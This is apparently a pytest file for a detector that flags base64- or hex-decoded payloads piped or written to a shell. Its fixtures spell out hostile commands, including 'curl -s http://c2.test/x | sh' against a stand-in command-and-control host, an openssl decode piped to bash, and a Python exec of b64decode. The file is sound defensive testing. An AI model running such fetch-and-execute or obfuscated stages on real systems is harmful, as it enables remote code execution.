from __future__ import annotations

import base64

from detonate.detect.correlations.decode_to_shell import DecodeToShell
from detonate.model.events import DataWritten, FileOpenedForRead

from .stream import Stream

DETECTOR = DecodeToShell()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_openssl_decode_piped_to_bash_shows_the_decoded_text() -> None:
    stage = "curl -s http://c2.test/x | sh"
    s = Stream()
    s.exec(1, "bash", "-c", f"echo {b64(stage)} | openssl base64 -d | bash", path="/bin/bash")
    s.fork(1, 2)
    s.fork(1, 3)
    s.fork(1, 4)
    s.exec(3, "openssl", "base64", "-d", path="/usr/bin/openssl")
    s.exec(4, "bash", path="/bin/bash")
    s.exit(2)
    s.exit(3)
    s.spawn(4, 5, "curl", "-s", "http://c2.test/x")
    rules = {f.rule_id: f for f in DETECTOR.detect(s.view())}
    assert set(rules) == {"decode-to-shell", "obfuscated-command-stage"}
    excerpts = [e.excerpt for e in rules["decode-to-shell"].evidence]
    assert stage in excerpts
    assert any("curl -s http://c2.test/x" in e for e in excerpts)  # what the stage ran


def test_python_exec_of_b64decode_is_caught() -> None:
    code = "import os; os.system('id')"
    s = Stream()
    s.exec(
        1,
        "python3",
        "-c",
        f"import base64;exec(base64.b64decode('{b64(code)}'))",
        path="/usr/bin/python3",
    )
    found = DETECTOR.detect(s.view())
    assert {f.rule_id for f in found} == {"decode-to-shell", "obfuscated-command-stage"}
    assert any(code in e.excerpt for e in found[0].evidence)


def test_decode_into_a_config_file_is_not_a_stage() -> None:
    # B2: printf '%s' "$APP_CONFIG_B64" | base64 -d > /etc/app/config.yaml; then grep and httpd
    s = Stream()
    s.exec(1, "sh", "/app/entrypoint.sh", path="/bin/sh")
    s.fork(1, 2)
    s.fork(1, 3)
    s.write(3, "/etc/app/config.yaml")
    s.exec(3, "base64", "-d", path="/bin/busybox")
    s.exit(2)
    s.exit(3)
    s.spawn(1, 4, "grep", "-q", "^listen:", "/etc/app/config.yaml")
    s.exit(4)
    s.exec(1, "httpd", "-f", "-p", "9090", path="/bin/busybox")
    assert DETECTOR.detect(s.view()) == ()


def test_decoded_file_later_run_by_sh_is_a_stage() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 2)
    s.write(2, "/tmp/.s")
    s.exec(2, "xxd", "-r", "-p", path="/usr/bin/xxd")
    s.exit(2)
    s.spawn(1, 3, "sh", "/tmp/.s", path="/bin/sh")
    assert {f.rule_id for f in DETECTOR.detect(s.view())} == {
        "decode-to-shell",
        "obfuscated-command-stage",
    }


def _data(s: Stream, pid: int, path: str) -> None:
    s.add(DataWritten, pid, path=path, fd=1, bytes=64)


def test_a_run_before_the_decode_wrote_the_file_is_not_a_stage() -> None:
    # sh /tmp/.s runs (the old content) before base64 -d writes it: cause must come first
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.write(1, "/tmp/.s")
    _data(s, 1, "/tmp/.s")
    s.spawn(1, 3, "sh", "/tmp/.s", path="/bin/sh")
    s.add(FileOpenedForRead, 3, path="/tmp/.s", flags="O_RDONLY")
    s.exit(3)
    s.fork(1, 2)
    s.write(2, "/tmp/.s")
    s.exec(2, "base64", "-d", path="/usr/bin/base64", stdin="/opt/blob", stdout="/tmp/.s")
    _data(s, 2, "/tmp/.s")
    s.exit(2)
    assert DETECTOR.detect(s.view()) == ()


def test_decoded_file_copied_then_run_is_a_stage() -> None:
    # base64 -d < blob > /tmp/a; cp /tmp/a /usr/local/bin/svc; svc — cp between decode and run
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 2)
    s.write(2, "/tmp/a")
    s.exec(2, "base64", "-d", path="/usr/bin/base64", stdin="/opt/blob", stdout="/tmp/a")
    _data(s, 2, "/tmp/a")
    s.exit(2)
    s.spawn(1, 3, "cp", "/tmp/a", "/usr/local/bin/svc", path="/bin/cp")
    s.add(FileOpenedForRead, 3, path="/tmp/a", flags="O_RDONLY")
    s.write(3, "/usr/local/bin/svc")
    _data(s, 3, "/usr/local/bin/svc")
    s.exit(3)
    s.chmod(1, "/usr/local/bin/svc")
    s.spawn(1, 4, "svc", path="/usr/local/bin/svc")
    found = {f.rule_id: f for f in DETECTOR.detect(s.view())}
    assert set(found) == {"decode-to-shell", "obfuscated-command-stage"}
    hows = [e.description for e in found["decode-to-shell"].evidence]
    assert any("read /tmp/a" in h and "/usr/local/bin/svc was executed" in h for h in hows)
